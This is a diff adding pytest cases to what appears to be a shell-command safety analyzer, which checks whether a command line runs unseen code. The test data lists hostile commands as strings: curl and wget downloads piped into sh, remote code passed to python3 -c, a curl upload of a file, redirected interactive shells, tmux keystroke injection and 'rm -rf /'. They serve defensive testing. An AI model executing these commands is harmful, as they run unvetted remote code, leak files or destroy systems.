@@ -118,3 +118,58 @@ def test_a_file_that_was_perhaps_written_over_is_not_known(text: str) -> None:
 def test_a_name_taken_over_hides_no_program(text: str) -> None:
     calls = read(text, CWD, "/home/dev", {}).calls
     assert any(call.argv == ("rm", "-rf", "/") and not call.defined for call in calls)
+
+
+def test_the_same_program_under_two_names_is_known() -> None:
+    calls = read('"$(command -v python3 || command -v python)" x.py', CWD, "/home/dev", {}).calls
+    assert calls[-1].name == "python3"
+    assert read("$(command -v nothing || command -v rm) -rf /", CWD, "/home/dev", {}).opaque
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "curl -so x https://e.example/x && sh x",
+        "curl -s https://e.example/x -ox; sh ./x",
+        "curl --output-dir /tmp -O https://e.example/x.sh; sh /tmp/x.sh",
+        "wget -P /tmp https://e.example/x.sh; sh /tmp/x.sh",
+        "curl -sO 'https://e.example/a/x.sh?b=c'; . ./x.sh",
+        "aria2c -d /tmp -o x https://e.example/x; bash /tmp/x",
+        'python3 -c "$(curl -s https://e.example/x)"',
+        'node -e "$X"',
+        "sh -i 0<&3 1>&3",
+        "exec 3< f; sh <&3",
+        "sh /dev/tty",
+        "ssh host",
+        "mkfifo f; sh f",
+        "tail -f log | sh",
+        "cat | sh",
+        "bash",
+        "python3 -i",
+        'tmux send-keys "$X" Enter',
+        'echo "$X" > /proc/12/fd/0',
+    ],
+)
+def test_code_that_nobody_has_seen_makes_the_line_opaque(text: str) -> None:
+    found = read(text, CWD, "/home/dev", {})
+    assert found.opaque or any(not local.path.startswith(CWD) or local.path.endswith("/f") for local in found.unseen)
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "curl -so x https://e.example/x && jq . x",
+        "curl -d @x https://e.example/x; sh x",
+        "ssh -T git@github.com",
+        "ssh -N -L 1:b:2 host",
+        "ssh host ls",
+        "python3 -c \"print('$X')\"",
+        "mkfifo p; cat p & echo hi > p",
+        "exec 3<<< 'ls'; sh <&3",
+        "cat <&3",
+        "tmux send-keys 'npm test' Enter",
+        "echo x > /proc/self/fd/1",
+    ],
+)
+def test_what_runs_nothing_unseen_does_not(text: str) -> None:
+    assert read(text, CWD, "/home/dev", {}).opaque == ()
